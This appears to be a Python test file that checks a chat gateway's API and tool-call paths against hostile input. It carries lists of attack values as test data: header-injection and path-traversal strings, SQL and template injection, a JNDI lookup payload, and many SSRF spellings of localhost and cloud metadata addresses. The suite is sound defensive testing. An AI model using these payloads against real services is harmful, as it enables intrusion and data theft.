"""What people put into headers, ids and bodies: an expected answer, no fault, no header and no request of theirs."""

import asyncio
import json
import resource
import socket
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from urllib.parse import quote, urlsplit

import httpx
import pytest

from tests.gateway.api.test_branches import counted
from tests.gateway.api.test_send_message import HISTORY, MESSAGES
from tests.gateway.api.test_sessions import SESSIONS
from tests.requirements import requirement
from tests.support.held_turn import FACADE, held_turn
from tests.support.running_gateway import RunningGateway, running_gateway

CHAT, ADMIN = "/api/v1/chat", "/api/v1/admin"
MEGABYTE = 1_048_576
HEADERS_TEXT = (
    "accept accept-language accept-encoding authorization x-api-key x-internal-key x-organization-id x-user-id "
    "cookie idempotency-key last-event-id origin referer user-agent content-type x-request-id traceparent "
    "x-forwarded-for x-forwarded-host x-forwarded-proto x-http-method-override range if-none-match te expect via "
    "prefer "
)
HEADERS = HEADERS_TEXT.split(" ")[:-1]
VALUES = (
    b"",
    b"\t",
    b"x" * 20_000,
    b"\x80\xff\xfe",
    "é€\u202e".encode(),
    b"x\tset-cookie: a=b",
    b"%0d%0aSet-Cookie:%20a=b",
    b"../../etc/passwd",
    b"' OR 1=1 --",
    b"${jndi:ldap://192.0.2.1/a}",
    b"{{7*7}}",
    b"9" * 5_000,
    b"-1",
    b"NaN",
    b"*/*;q=" + b"9" * 400,
    b"," * 5_000,
    b"Bearer " * 500,
    b"application/json; charset=utf-7",
    b"multipart/form-data",
    b"bytes=0-,0-,0-",
)
IDS = (
    "../" * 20,
    "..%2f" * 10,
    "%2e%2e/%2e%2e",
    "\r\nset-cookie: a=b",
    "\0",
    "ses_\ud7ff\ufffe",
    "\u202eses",
    "x" * 8_000,
    "ses_1;DROP TABLE session",
    "ses_1' OR '1'='1",
    "..\\..\\x",
    "con",
    "~",
    "*",
    "a/b",
    "?x=1",
    "#x",
    "{session_id}",
    "__proto__",
    "http://192.0.2.1/",
)


async def raw(url: str, request: bytes) -> bytes:
    """Send the bytes, and return what comes."""
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    writer.write(request)
    async with asyncio.timeout(20):
        answer = await reader.read()
    writer.close()
    return answer


@requirement("hostile-input")
async def test_no_header_is_a_fault_or_becomes_a_header_of_ours(gateway: RunningGateway) -> None:
    alice = await gateway.client()
    key = alice.headers["x-api-key"].encode()
    wrong: list[str] = []
    for name in HEADERS:
        for value in VALUES:
            own = b"" if name in {"x-api-key", "authorization"} else b"x-api-key: " + key + b"\r\n"
            for target in (b"GET /api/v1/chat/sessions", b"GET /api/v1/chat/turns/turn_x/stream"):
                head = target + b" HTTP/1.1\r\nhost: x\r\nconnection: close\r\n" + own
                answer = await raw(gateway.public_url, head + name.encode() + b": " + value + b"\r\n\r\n")
                status, _, rest = answer.partition(b"\r\n")
                told = rest.partition(b"\r\n\r\n")[0].lower()
                if status[9:12] not in {b"200", b"400", b"401", b"404", b"406", b"415", b"416", b"422"}:
                    wrong.append(f"{name}: {value[:30]!r}: {status!r}")
                if b"set-cookie" in told or b"passwd" in told or b"jndi" in told:
                    wrong.append(f"{name}: {value[:30]!r}: {told!r}")

    assert wrong == []


@requirement("hostile-input")
async def test_no_id_in_a_path_a_query_or_a_body_is_a_fault_or_becomes_a_header(gateway: RunningGateway) -> None:
    # Some of these are good names of a client's own session.
    await gateway.add_worker(counted)
    alice = await gateway.client()
    wrong: list[str] = []
    for text in IDS:
        path = quote(text, safe="")
        body = json.dumps(text)
        asked = [
            await alice.get(f"{SESSIONS}/{path}"),
            await alice.get(f"{CHAT}/turns/{path}/stream"),
            await alice.get(f"{CHAT}/artifacts/{path}"),
            await alice.get(f"/api/v1/shared/{path}"),
            await alice.get(HISTORY, params={"session_id": text}),
            await alice.get(SESSIONS, params={"after": text}),
            await alice.get(f"{CHAT}/search", params={"q": text[:200] or "x"}),
            await alice.post(MESSAGES, content=f'{{"message": "x", "session_id": {body}}}'.encode(), headers=JSON),
            await alice.post(SESSIONS, content=f'{{"title": {body}}}'.encode(), headers=JSON),
            await alice.delete(f"{ADMIN}/keys/{path}"),
        ]
        wrong += [
            f"{text[:30]!r}: {answer.request.method} {answer.request.url.path[:60]}: {answer}"
            for answer in asked
            if answer.status_code not in {200, 201, 400, 403, 404, 422} or "set-cookie" in answer.headers
        ]

    assert wrong == []


JSON = {"content-type": "application/json"}
PORT = "{port}"
# One place on this machine in sixty spellings; where a host is named that is elsewhere, the trap of the tests waits.
HOSTS_TEXT = (
    "127.0.0.1 127.1 127.0.1 0x7f.0.0.1 0x7f000001 2130706433 017700000001 0177.0.0.1 0 0.0.0.0 127.127.127.127 "
    "localhost LOCALHOST localhost. [::1] [::] [0:0:0:0:0:0:0:1] [::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] "
    "[64:ff9b::7f00:1] ①②⑦.⓪.⓪.① 127。0。0。1 user@127.0.0.1 user:pw@127.0.0.1 evil.example@127.0.0.1 "
    "127.0.0.1%2eexample 169.254.169.254 metadata.google.internal [fd00:ec2::254] 192.0.2.1 10.0.0.1 192.168.0.1 "
)
HOSTS = HOSTS_TEXT.split(" ")[:-1]
SCHEMES_TEXT = (
    "http https HTTP ws wss ftp gopher file dict ldap sftp tftp jar netdoc data blob javascript unix s3 gs mailto "
    "phar php expect view-source about "
)
SCHEMES = SCHEMES_TEXT.split(" ")[:-1]
URLS = (
    *(f"http://{host}:{PORT}/latest" for host in HOSTS),
    *(f"{scheme}://127.0.0.1:{PORT}/x" for scheme in SCHEMES),
    f"//127.0.0.1:{PORT}/x",
    f"\\\\127.0.0.1:{PORT}\\x",
    f"http:/127.0.0.1:{PORT}/x",
    f"http:127.0.0.1:{PORT}/x",
    f"http://127.0.0.1:{PORT}#@evil.example/",
    f"http://evil.example\\@127.0.0.1:{PORT}/",
    f"http://127.0.0.1:{PORT}\t/x",
    "file:///etc/passwd",
)


@asynccontextmanager
async def listener() -> AsyncGenerator[tuple[int, list[object]]]:
    """A port of this machine that nobody has to come to, and who came."""
    came: list[object] = []

    async def note(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        came.append(writer.get_extra_info("peername"))
        writer.close()

    sockets = [socket.create_server(("127.0.0.1", 0))]
    port: int = sockets[0].getsockname()[1]
    server = await asyncio.start_server(note, sock=sockets[0])
    async with server:
        yield port, came


def asked_with(url: str) -> list[tuple[str, object]]:
    """Every body of somebody from outside in which a URL could stand, and be followed by a careless reader."""
    part = {"type": "file", "mediaType": "image/png", "url": url}
    user = {"role": "user", "content": "?"}
    return [
        (MESSAGES, {"id": "c", "messages": [{"id": "m", "role": "user", "parts": [part]}]}),
        (
            MESSAGES,
            {"id": "c", "messages": [{"id": "m", "role": "user", "parts": [{"type": "text", "text": url}, part]}]},
        ),
        (MESSAGES, {"messages": [{**user, "experimental_attachments": [{"url": url, "contentType": "image/png"}]}]}),
        (MESSAGES, {"message": url, "callback": url}),
        (MESSAGES, {"message": "x", "attachments": [url]}),
        (
            "/v1/chat/completions",
            {
                "model": "crew",
                "messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": url}}]}],
            },
        ),
        ("/v1/chat/completions", {"model": url, "messages": [user]}),
        (SESSIONS, {"title": url}),
        (f"{SESSIONS}/import", {"format": "crew-chat", "version": 1, "source": url}),
        (f"{ADMIN}/keys", {"user_id": url, "name": url}),
    ]


@requirement("hostile-input", "injected")
async def test_no_url_from_outside_is_followed(tmp_path_factory: pytest.TempPathFactory) -> None:
    assert len(URLS) >= 60
    wrong: list[str] = []
    async with listener() as (port, came), running_gateway(tmp_path_factory.mktemp("urls")) as gateway:
        await gateway.add_worker(counted)
        # Without the check against the description: OpenAI's clients send what it does not know.
        key = (await gateway.client()).headers["x-api-key"]
        async with httpx.AsyncClient(
            base_url=gateway.public_url, headers={"x-api-key": key}, trust_env=False, timeout=20
        ) as client:
            before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
            for number, spelled in enumerate(URLS):
                url = spelled.replace(PORT, str(port))
                bodies = asked_with(url)
                # Every URL in the places where files stand, and in some of the others.
                for path, body in [*bodies[:3], bodies[5], bodies[3 + number % (len(bodies) - 3)]]:
                    answer = await client.post(path, json=body)
                    if answer.status_code >= 500 or (300 <= answer.status_code < 400):
                        wrong.append(f"{url}: {path}: {answer.status_code}")
            grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before

    assert wrong == []
    assert came == []
    assert grown * 1024 < 64 * MEGABYTE


@requirement("hostile-input", "injected")
async def test_no_url_of_a_tool_call_is_followed(gateway: RunningGateway) -> None:
    """What a model puts into a tool's arguments arrives at the façade as an id, a query or a path."""
    wrong: list[str] = []
    async with listener() as (port, came), held_turn(gateway) as turn:
        for spelled in URLS:
            url = quote(spelled.replace(PORT, str(port)), safe="")
            for path in (
                f"{FACADE}/api/v1/products/{url}",
                f"{FACADE}/{url}",
                f"{FACADE}/api/v1/organizations/{url}",
                f"{FACADE}/api/v1/products/search?organizationId={url}&q=x",
            ):
                answer = await turn.http.get(path, headers=turn.bearer)
                if (answer.status_code, answer.json().get("code")) not in {(404, "not_found"), (410, "turn_over")}:
                    wrong.append(f"{path}: {answer.status_code} {answer.text[:80]}")
        turn.let_go.set()

    assert wrong == []
    assert came == []
